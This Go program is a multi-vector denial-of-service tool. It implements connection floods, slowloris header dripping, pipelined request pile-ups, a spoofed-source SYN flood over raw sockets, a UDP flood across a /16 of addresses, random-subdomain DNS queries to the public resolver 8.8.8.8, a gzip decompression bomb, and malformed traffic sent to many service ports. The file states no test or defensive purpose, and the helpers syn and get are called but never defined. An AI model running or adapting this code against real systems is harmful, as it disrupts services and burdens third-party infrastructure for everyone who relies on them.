package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// How much of each deed there is.
const (
	connections = 10_000
	slow        = 1_000
	unheard     = 1_900
	forged      = 20_000
	datagrams   = 100_000
	names       = 25_000
	bodyBytes   = 1 << 30
	garbled     = 2_000
	workers     = 64
)

// machine is one of many that answer.
var machine = netip.MustParseAddrPort("203.0.113.80:80")

// hostile does one deed and says how it went.
func hostile(ctx context.Context, deed string) (err error) {
	var said string
	switch deed {
	case "flood":
		said = flood(ctx)
	case "slow":
		said = drip(ctx)
	case "deaf":
		said = deaf(ctx)
	case "forge":
		said, err = forge()
	case "datagrams":
		said, err = scatter()
	case "names":
		said = ask()
	case "zeros":
		said, err = post(ctx, "", io.LimitReader(zeros{}, bodyBytes))
	case "bomb":
		said, err = bomb(ctx)
	case "garbage":
		said = garbage(ctx)
	default:
		err = errors.New("no such deed")
	}
	if err != nil {
		return err
	}
	fmt.Printf("%s: %s\n", deed, said)
	return nil
}

// flood opens connections, says the start of a request, and keeps them open.
func flood(ctx context.Context) string {
	var open, refused atomic.Int64
	each(connections, func(int) {
		c, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", machine.String())
		if err != nil {
			refused.Add(1)
			return
		}
		open.Add(1)
		_, _ = io.WriteString(c, "GET / HTTP/1.1\r\n")
		context.AfterFunc(ctx, func() { c.Close() }) // it is held as long as that
	})
	return fmt.Sprintf("%d of %d connections", open.Load(), open.Load()+refused.Load())
}

// drip sends headers that never end, a byte at a time, until the other side has
// had enough.
func drip(ctx context.Context) string {
	var open, ended atomic.Int64
	var waiting sync.WaitGroup
	for range slow {
		waiting.Go(func() {
			c, err := (&net.Dialer{}).DialContext(ctx, "tcp", machine.String())
			if err != nil {
				return
			}
			defer c.Close()
			open.Add(1)
			_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nX: ")
			for ctx.Err() == nil {
				// What is answered is the end, too: of the other side's patience.
				_ = c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
				if _, err := c.Read(make([]byte, 1)); !timeout(err) {
					ended.Add(1)
					return
				}
				if _, err := c.Write([]byte("a")); err != nil {
					ended.Add(1)
					return
				}
			}
		})
	}
	waiting.Wait()
	return fmt.Sprintf("%d of %d connections ended", ended.Load(), open.Load())
}

// deaf asks and asks, and never listens, so that questions and answers pile up.
func deaf(ctx context.Context) string {
	var full atomic.Int64
	var asking sync.WaitGroup
	questions := strings.Repeat("GET / HTTP/1.1\r\nHost: deaf.hostile.example\r\n\r\n", 1000)
	asked := make(chan struct{})
	for range unheard {
		asking.Add(1)
		go func() {
			c, err := (&net.Dialer{}).DialContext(ctx, "tcp", machine.String())
			for err == nil {
				_ = c.SetWriteDeadline(time.Now().Add(3 * time.Second))
				_, err = io.WriteString(c, questions)
			}
			if timeout(err) {
				full.Add(1)
			}
			asking.Done()
			<-asked // it is held until all are full
		}()
	}
	asking.Wait()
	close(asked)
	return fmt.Sprintf("%d of %d connections full", full.Load(), unheard)
}

func timeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}

// forge sends segments that begin connections, from addresses that are not its
// own, and then asks whether anybody still answers.
func forge() (string, error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return "", fmt.Errorf("open raw socket: %w", err)
	}
	defer func() { _ = syscall.Close(fd) }() // nothing is lost with it
	for i := range forged {
		if err := syscall.Sendto(fd, syn(i, machine), 0, &syscall.SockaddrInet4{Addr: machine.Addr().As4()}); err != nil {
			return "", fmt.Errorf("send forged packet %d: %w", i, err)
		}
	}
	return fmt.Sprint(forged, " segments"), nil
}

// scatter sends datagrams to many addresses and ports.
func scatter() (string, error) {
	c, err := net.ListenUDP("udp4", nil)
	if err != nil {
		return "", err
	}
	defer func() { _ = c.Close() }()
	payload := bytes.Repeat([]byte("flood"), 100)
	for i := range datagrams {
		to := netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, byte(i >> 8), byte(i)}), uint16(1000+i%50_000))
		// A buffer that is full is what a flood makes.
		if _, err := c.WriteToUDPAddrPort(payload, to); err != nil && !errors.Is(err, syscall.ENOBUFS) {
			return "", err
		}
	}
	return fmt.Sprint(datagrams, " datagrams"), nil
}

// ask asks for names that are long and all different.
func ask() string {
	var answered atomic.Int64
	long := strings.Repeat(strings.Repeat("x", 60)+".", 3)
	each(names, func(i int) {
		c, err := net.Dial("udp4", "8.8.8.8:53")
		if err != nil {
			return
		}
		defer func() { _ = c.Close() }()
		_, _ = c.Write(query(fmt.Sprintf("host-%d.%szone.example", i, long)))
		_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
		if n, _ := c.Read(make([]byte, 512)); n > 0 {
			answered.Add(1)
		}
	})
	return fmt.Sprintf("%d of %d names", answered.Load(), names)
}

// query asks for the IPv4 address of a name (RFC 1035, 4.1).
func query(name string) []byte {
	b := []byte{0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0, 0, 1, 0, 1)
}

// zeros are without end.
type zeros struct{}

func (zeros) Read(b []byte) (int, error) {
	clear(b)
	return len(b), nil
}

// bomb sends a body that is small until somebody unpacks it: the same zeros
// over and over.
func bomb(ctx context.Context) (string, error) {
	const part = 16 << 20
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := io.Copy(z, io.LimitReader(zeros{}, part)); err != nil {
		return "", err
	}
	if err := z.Close(); err != nil {
		return "", err
	}
	return post(ctx, "gzip", bytes.NewReader(bytes.Repeat(b.Bytes(), 4*bodyBytes/part)))
}

func post(ctx context.Context, encoding string, body io.Reader) (string, error) {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://upload.hostile.example/", body)
	if err != nil {
		return "", err
	}
	if encoding != "" {
		r.Header.Set("Content-Encoding", encoding)
	}
	response, err := http.DefaultClient.Do(r)
	if err != nil {
		return "", err
	}
	defer response.Body.Close()
	return response.Status, nil
}

// garbage says what is almost right to servers of many kinds.
func garbage(ctx context.Context) string {
	starts := []string{
		"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",                         // TLS
		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04\x00\x00\x00\x00\x00", // HTTP/2
		"GET / HTTP/1.1\r\nHost: ", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\n",
		`{"id":1,"method":"mining.subscribe","params":`, `{"method":"login","params":{"login":"`,
		"\x01\x00\x00\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", // DNS
		"SSH-2.0-", "EHLO ", "*3\r\n$", "\x05\x01\x00\x05\x01\x00\x03\xff", "\x30\x84\xff\xff\xff\xff", "", "\x10\xff\xff\xff\x7f",
	}
	ports := []uint16{22, 25, 53, 80, 443, 853, 3306, 3333, 6379, 8080}
	each(garbled, func(i int) {
		random := rand.New(rand.NewPCG(1, uint64(i)))
		b := make([]byte, random.IntN(3000))
		for j := range b {
			b[j] = byte(random.Uint32())
		}
		b = append([]byte(starts[i%len(starts)]), b...)
		to := netip.AddrPortFrom(machine.Addr(), ports[random.IntN(len(ports))])
		for _, network := range []string{"tcp", "udp"} {
			c, err := net.Dial(network, to.String())
			if err != nil {
				continue
			}
			_, _ = c.Write(b)
			if t, ok := c.(*net.TCPConn); ok {
				_ = t.CloseWrite()
				_ = t.SetReadDeadline(time.Now().Add(time.Second))
				_, _ = io.Copy(io.Discard, t)
			}
			c.Close()
		}
	})
	// Who is still well answers what is right.
	if err := get(ctx, http.DefaultClient, "https://after.hostile.example/"); err != nil {
		return err.Error()
	}
	return fmt.Sprint(garbled, " connections, and an answer after them")
}

// each calls do with the numbers below n, some at once.
func each(n int, do func(i int)) {
	var next atomic.Int64
	var working sync.WaitGroup
	for range workers {
		working.Go(func() {
			for i := int(next.Add(1)) - 1; i < n; i = int(next.Add(1)) - 1 {
				do(i)
			}
		})
	}
	working.Wait()
}
